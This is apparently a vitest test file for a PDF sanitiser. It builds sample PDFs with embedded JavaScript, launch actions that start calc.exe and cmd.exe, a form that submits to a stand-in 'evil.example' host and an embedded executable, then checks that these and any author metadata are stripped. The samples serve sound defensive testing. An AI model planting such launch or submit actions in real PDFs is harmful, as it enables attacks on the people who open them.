/** Sanitises files that hold everything there is, and looks with qpdf, pdf.js, poppler and PDFium at what is left. */
import { execFileSync } from 'node:child_process';
import { appendFile, readFile } from 'node:fs/promises';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { readPdf } from '../../../tests/read-pdf.ts';
import { OperationTest } from '../../../tests/run-operation.ts';
import { pageObject, type SampleOptions, samplePdf, sampleStream } from '../../../tests/sample-pdf.ts';
import { look } from '../../../tests/seen-page.ts';
import type { OutputFile } from '../../contract/operation.ts';
import { run } from './operation.ts';
import { tool } from './tool.ts';

let sanitise: OperationTest<typeof tool>;
beforeEach(async () => {
  sanitise = await OperationTest.start(tool, run);
});
afterEach(() => sanitise.end());

type Options = Readonly<Record<string, unknown>>;

async function cleaned(content: Uint8Array, options: Options = {}): Promise<OutputFile> {
  const [output] = await sanitise.run([await sanitise.file('report.pdf', content)], options);
  if (!output) throw new Error('there is no result');
  return output;
}

/** Every object and stream unpacked, with white space as single blanks. */
function plain({ path }: OutputFile): string {
  const text = execFileSync('qpdf', ['--qdf', '--object-streams=disable', path, '-'], { encoding: 'latin1' });
  return text.replace(/\s+/g, ' ');
}

const CUSTOM_NONE: Options = {
  level: 'custom',
  javascript: false,
  'launch-actions': false,
  tracking: false,
  metadata: false,
  comments: false,
  'hidden-layers': false,
  thumbnails: false,
  'private-data': false,
};

const only = (part: string): Options => ({ ...CUSTOM_NONE, [part]: true });

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Scripts in all the places from which a reader starts them, also behind other actions. */
const RUNNING = samplePdf(2, {
  catalog: `/OpenAction 100 0 R /AA << /WC ${SCRIPT} >> /Names << /JavaScript << /Names [(a) ${SCRIPT} (b) 101 0 R] >> >> /AcroForm << /Fields [112 0 R] /DA (/F1 9 Tf) >> /Outlines 105 0 R`,
  page: (page) =>
    page === 1 ? `/AA << /O ${SCRIPT} >> /Annots [110 0 R 111 0 R 112 0 R 113 0 R 114 0 R 115 0 R]` : '',
  objects: {
    100: `<< /S /GoTo /D [${pageObject(2)} 0 R /Fit] /Next [${SCRIPT} << /S /Launch /F (calc.exe) /Next << /S /Named /N /FirstPage >> >>] >>`,
    101: '<< /S /JavaScript /JS 102 0 R >>',
    102: sampleStream('app.alert(2)'),
    105: '<< /Type /Outlines /First 106 0 R /Last 106 0 R /Count 1 >>',
    106: `<< /Title (Two) /Parent 105 0 R /A << /S /GoTo /D [${pageObject(2)} 0 R /Fit] /Next ${SCRIPT} >> >>`,
    110: '<< /Type /Annot /Subtype /Link /Rect [20 140 120 160] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>',
    111: '<< /Type /Annot /Subtype /Link /Rect [20 170 120 190] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    112: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ann) /DA (/F1 9 Tf) /F 4 /Rect [20 60 120 80] /AA << /K ${SCRIPT} /C ${SCRIPT} >> >>`,
    113: '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /F 4 /Rect [20 20 60 40] /A << /S /SubmitForm /F (http://evil.example/x) >> >>',
    114: '<< /Type /Annot /Subtype /Link /Rect [20 200 120 220] /A << /S /URI /URI (https://a.example/p?id=7&utm_source=mail&mc_eid=ab12#top) >> >>',
    115: '<< /Type /Annot /Subtype /Screen /Rect [20 230 60 250] /A << /S /Rendition /JS (app.alert\\(3\\)) /OP 0 /AN 115 0 R >> >>',
  },
});

test('leaves nothing that can run, and what runs nothing stays', { tags: ['sanitised-runs-nothing'] }, async () => {
  for (const level of ['safe', 'share', 'strict']) {
    const output = await cleaned(RUNNING, { level });
    const text = plain(output);
    for (const name of ['/JS', '/JavaScript', '/Launch', '/AA', '/SubmitForm', 'app.alert', 'javascript:', 'evil']) {
      expect(text, `${level} ${name}`).not.toContain(name);
    }
    expect(output.report?.removed).toMatchObject({ scripts: 10, programs: 2, tracking: level === 'strict' ? 1 : 2 });
  }
  const { path } = await cleaned(RUNNING, { level: 'safe' });
  const read = await readPdf(path);
  expect(read.pages[0]?.links).toEqual(['https://a.example/p?id=7#top']);
  expect(read.bookmarks).toEqual([{ title: 'Two', page: 2, children: [] }]);
  expect(read.fields).toEqual(['name', 'send']);
  expect(plain({ path, type: 'pdf' })).toContain('/Next << /N /FirstPage /S /Named >>');
});

test('takes the name AA for nothing where it is that of a font', async () => {
  const file = samplePdf(1, {
    resources: () => '/XObject << /AA 120 0 R >>',
    content: () => '/AA Do',
    objects: { 120: sampleStream('1 0 0 rg 0 0 300 300 re f', '/Type /XObject /Subtype /Form /BBox [0 0 300 300]') },
  });
  const output = await cleaned(file, { level: 'strict' });
  expect((await look(output)).at(50, 50)).toBe('red');
});

describe('what tells of its author', () => {
  const FILE = samplePdf(1, {
    trailer:
      '/Info << /Title (Plan) /Author (Ann Example) >> /ID [<aabbccddeeff00112233445566778899> <00112233445566778899aabbccddeeff>]',
    catalog: '/Metadata 120 0 R',
    page: () => '/Thumb 121 0 R /PieceInfo << /Draw << /Private (my-secret) >> >> /Annots [122 0 R 123 0 R 124 0 R]',
    objects: {
      120: sampleStream('<x:xmpmeta>Ann Example</x:xmpmeta>', '/Type /Metadata /Subtype /XML'),
      121: sampleStream('\0\0\0', '/Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8'),
      122: '<< /Type /Annot /Subtype /Text /Rect [10 10 30 30] /T (Ann Example) /M (D:20240101) /Contents (Please check) /Popup 123 0 R >>',
      123: '<< /Type /Annot /Subtype /Popup /Rect [30 10 90 60] /Parent 122 0 R >>',
      124: '<< /Type /Annot /Subtype /Text /Rect [10 10 30 30] /T (Ann Example) /IRT 122 0 R /Contents (Done) >>',
    },
  });

  test('is removed for sharing, and stays where only what runs is removed', async () => {
    const output = await cleaned(FILE);
    const text = plain(output);
    for (const told of ['Ann Example', 'Plan', 'my-secret', '/Thumb', '/PieceInfo', '/Metadata', 'D:2024', 'aabbcc'])
      expect(text).not.toContain(told);
    expect((await readPdf(output.path)).notes).toEqual(['Please check', 'Done']);
    expect(output.report?.removed).toMatchObject({ metadata: 3, authors: 2, thumbnails: 1, privateData: 1 });
    const safe = await cleaned(FILE, { level: 'safe' });
    expect(safe.unchanged).toBe(true);
    expect(sanitise.warnings).toEqual([{ code: 'nothing-to-remove', params: { file: 'report.pdf' } }]);
  });

  test('goes part by part, as chosen', async () => {
    const counts = async (part: string) => {
      const { removed = {} } = (await cleaned(FILE, only(part))).report ?? {};
      return Object.entries(removed).filter(([, count]) => count !== 0);
    };
    expect(await counts('metadata')).toEqual([['metadata', 3]]);
    expect(await counts('comments')).toEqual([['authors', 2]]);
    expect(await counts('annotations')).toEqual([['comments', 2]]);
    expect(await counts('thumbnails')).toEqual([['thumbnails', 1]]);
    const { path } = await cleaned(FILE, only('annotations'));
    expect((await readPdf(path)).notes).toEqual([]);
    expect(plain({ path, type: 'pdf' })).not.toContain('Please check');
  });

  test('goes with a mark of PDF/A, which asks for metadata', async () => {
    const xmp = '<x:xmpmeta><pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance></x:xmpmeta>';
    await cleaned(samplePdf(1, { catalog: '/Metadata 120 0 R', objects: { 120: sampleStream(xmp) } }));
    expect(sanitise.warnings).toEqual([{ code: 'conformance-removed', params: { standard: 'PDF/A-2b' } }]);
  });

  test('goes from photos, and not a pixel changes', async () => {
    const exif = { IFD0: { Artist: 'Ann Example' } };
    const photo = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ff0000' } })
      .withExif(exif)
      .jpeg()
      .toBuffer();
    const entries =
      '/Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode';
    const file = samplePdf(1, {
      resources: () => '/XObject << /I 150 0 R >>',
      content: () => 'q 100 0 0 100 50 100 cm /I Do Q',
      objects: { 150: sampleStream(photo.toString('latin1'), entries) },
    });
    const output = await cleaned(file);
    expect((await readFile(output.path)).includes('Ann Example')).toBe(false);
    expect((await look(output)).at(100, 150)).toBe('red');
    expect(output.report?.removed).toMatchObject({ photos: 1 });
  });
});

describe('attached files', () => {
  const spec = (name: string, data: number) =>
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F ${data} 0 R /UF ${data} 0 R >> >>`;
  const FILE = samplePdf(1, {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 120 0 R (b) 121 0 R (c) 122 0 R] >> >> /AF [120 0 R 121 0 R]',
    page: () => '/Annots [123 0 R 126 0 R]',
    objects: {
      120: spec('notes.txt', 130),
      121: spec('setup.exe', 131),
      122: spec('picture.png', 132),
      123: `<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS ${spec('more.txt', 130)} >>`,
      126: '<< /Type /Annot /Subtype /RichMedia /Rect [50 50 90 90] >>',
      130: sampleStream('harmless', '/Type /EmbeddedFile'),
      131: sampleStream('any', '/Type /EmbeddedFile'),
      132: sampleStream('MZ\x90 a program', '/Type /EmbeddedFile'),
    },
  });

  test('go where they can be started, by name or by content', async () => {
    const output = await cleaned(FILE, { level: 'safe' });
    expect((await readPdf(output.path)).attachments).toEqual({ 'notes.txt': 'harmless' });
    const text = plain(output);
    for (const gone of ['setup.exe', 'MZ', '/RichMedia']) expect(text).not.toContain(gone);
    expect(text).toContain('/FileAttachment');
    expect(output.report?.removed).toMatchObject({ programs: 3, attachments: 0 });
  });

  test('all go where that is asked for', async () => {
    const output = await cleaned(FILE, { level: 'strict' });
    const text = plain(output);
    for (const gone of ['/EmbeddedFile', '/Filespec', '/AF', '/FileAttachment', 'harmless'])
      expect(text).not.toContain(gone);
    expect(output.report?.removed).toMatchObject({ programs: 0, attachments: 5 });
  });
});

describe('hidden layers', () => {
  const layered = (more: string, options: SampleOptions = {}) =>
    samplePdf(1, {
      catalog: `/OCProperties << /OCGs [120 0 R 121 0 R] /D << /Order [120 0 R [121 0 R]] ${more} >> >>`,
      resources: () =>
        '/Properties << /On 120 0 R /Off 121 0 R /Not 122 0 R >> /XObject << /Shown 123 0 R /Hidden 124 0 R >>',
      content: () =>
        [
          '1 0 0 rg /OC /On BDC 0 200 50 100 re f EMC',
          '/OC /Off BDC q 0 0 1 rg 60 200 40 100 re f BT /F1 20 Tf 10 50 Td (secret) Tj ET /Span << /ActualText (classified) >> BDC EMC Q 0 100 30 80 re W n EMC',
          '/OC /Not BDC 0 100 50 50 re f EMC',
          '/Hidden Do /Shown Do',
        ].join('\n'),
      objects: {
        120: '<< /Type /OCG /Name (Plan) >>',
        121: '<< /Type /OCG /Name (Draft) >>',
        122: '<< /Type /OCMD /OCGs [121 0 R] /P /AllOff >>',
        123: sampleStream('0 1 0 rg 0 100 20 20 re f', '/Type /XObject /Subtype /Form /BBox [0 0 300 300] /OC 120 0 R'),
        124: sampleStream('(also secret) pop', '/Type /XObject /Subtype /Form /BBox [0 0 300 300] /OC 121 0 R'),
      },
      ...options,
    });

  test('go with all that is on them; what is cut by them stays cut', async () => {
    const output = await cleaned(layered('/OFF [121 0 R]'));
    const { at } = await look(output);
    // The rest is cut to 30 × 80 by a path of the hidden layer, which is followed though it is not seen.
    expect([at(20, 50), at(80, 50), at(10, 170), at(25, 170), at(40, 170)]).toEqual([
      'red',
      'white',
      'red',
      'red',
      'white',
    ]);
    const text = plain(output);
    for (const gone of ['secret', 'classified', 'Draft', '/Off']) expect(text).not.toContain(gone);
    expect(text).toContain('(Plan)');
    expect(output.report?.removed).toMatchObject({ layers: 1 });
  });

  test('stay where paper shows them', async () => {
    const paper = '/OFF [121 0 R] /AS [<< /Event /Print /Category [/Print] /OCGs [121 0 R] >>]';
    const objects = { 121: '<< /Type /OCG /Name (Draft) /Usage << /Print << /PrintState /ON >> >> >>' };
    const file = layered(paper);
    const printed = Buffer.from(
      file.toString('latin1').replace('<< /Type /OCG /Name (Draft) >>', objects[121]),
      'latin1',
    );
    const output = await cleaned(printed, only('hidden-layers'));
    expect(output.report?.removed).toMatchObject({ layers: 0 });
  });
});

test('removes earlier versions, and counts them', async () => {
  const first = samplePdf(1, { content: () => 'BT /F1 24 Tf 20 140 Td (Fired) Tj ET' });
  const file = await sanitise.file('report.pdf', first);
  const stream = sampleStream('BT /F1 24 Tf 20 140 Td (Hired) Tj ET');
  const start = first.length + `13 0 obj\n${stream}\nendobj\n`.length;
  await appendFile(
    file.path,
    `13 0 obj\n${stream}\nendobj\nxref\n13 1\n${String(first.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 14 /Root 1 0 R /Prev ${/startxref\n(\d+)/.exec(first.toString('latin1'))?.[1]} >>\nstartxref\n${start}\n%%EOF\n`,
  );
  const [output] = await sanitise.run([{ ...file, bytes: (await readFile(file.path)).length }], { level: 'safe' });
  if (!output) throw new Error('there is no result');
  expect(output.report?.removed).toMatchObject({ versions: 1 });
  expect(plain(output)).toContain('Hired');
  expect(plain(output)).not.toContain('Fired');
});

test('makes forms flat and removes links and text without ink where it is strict', async () => {
  const file = samplePdf(1, {
    catalog: '/AcroForm << /Fields [120 0 R] /DA (/Helv 0 Tf 0 g) >>',
    page: () => '/Annots [120 0 R 121 0 R 122 0 R]',
    content: () => 'BT /F1 24 Tf 20 140 Td (Shown) Tj 3 Tr 0 -40 Td (Unseen) Tj ET',
    objects: {
      120: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (field-name) /V (Ann) /F 4 /Rect [20 250 180 270] >>',
      121: '<< /Type /Annot /Subtype /Link /Rect [20 140 120 160] /A << /S /URI /URI (https://a.example/) >> >>',
      122: `<< /Type /Annot /Subtype /Link /Rect [20 170 120 190] /Dest [${pageObject(1)} 0 R /Fit] >>`,
    },
  });
  const output = await cleaned(file, { level: 'strict' });
  const text = plain(output);
  for (const gone of ['field-name', 'Unseen', 'a.example']) expect(text).not.toContain(gone);
  const words = execFileSync('pdftotext', [output.path, '-'], { encoding: 'utf8' });
  expect(
    words
      .split(/\s+/)
      .filter((word) => word !== '')
      .sort(),
  ).toEqual(['Ann', 'Shown']);
  expect((await readPdf(output.path)).pages[0]?.links).toEqual([1]);
  expect(output.report?.removed).toMatchObject({ fields: 1, links: 1, pagesWithText: 1 });
});

test('removes tags and fonts only where that is asked for', async () => {
  const file = samplePdf(1, {
    catalog: '/MarkInfo << /Marked true >> /StructTreeRoot 140 0 R',
    page: () => '/StructParents 0',
    objects: {
      140: '<< /Type /StructTreeRoot /K 141 0 R /ParentTree << /Nums [0 [141 0 R]] >> >>',
      141: `<< /Type /StructElem /S /P /Alt (described) /P 140 0 R /Pg ${pageObject(1)} 0 R /K 0 >>`,
      150: '<< /Type /Font /Subtype /TrueType /BaseFont /Some /FontDescriptor 151 0 R >>',
      151: '<< /Type /FontDescriptor /FontName /Some /Flags 32 /FontFile2 152 0 R >>',
      152: sampleStream('font'),
    },
    resources: () => '/ExtGState << /Held << /Font [150 0 R 9] >> >>',
  });
  expect((await cleaned(file, { level: 'strict' })).unchanged).toBe(true);
  const text = plain(await cleaned(file, { ...only('tags'), fonts: true }));
  for (const gone of ['described', '/StructParents', '/FontFile2']) expect(text).not.toContain(gone);
});

test('gives the file back as it was where there is nothing to remove, and the same bytes for the same job', async () => {
  const file = await sanitise.file('report.pdf', samplePdf(1));
  const [output] = await sanitise.run([file]);
  expect([output?.path, output?.unchanged]).toEqual([file.path, true]);
  const [first, second] = [await cleaned(RUNNING), await cleaned(RUNNING)];
  expect((await readFile(first.path)).equals(await readFile(second.path))).toBe(true);
});

test('cleans a thousand pages without growing', async () => {
  const file = samplePdf(1_000, { page: () => `/AA << /O ${SCRIPT} >>` });
  const output = await cleaned(file);
  expect(output.report?.removed).toMatchObject({ scripts: 1_000 });
  expect((await readFile(output.path)).length).toBeLessThan(file.length);
});
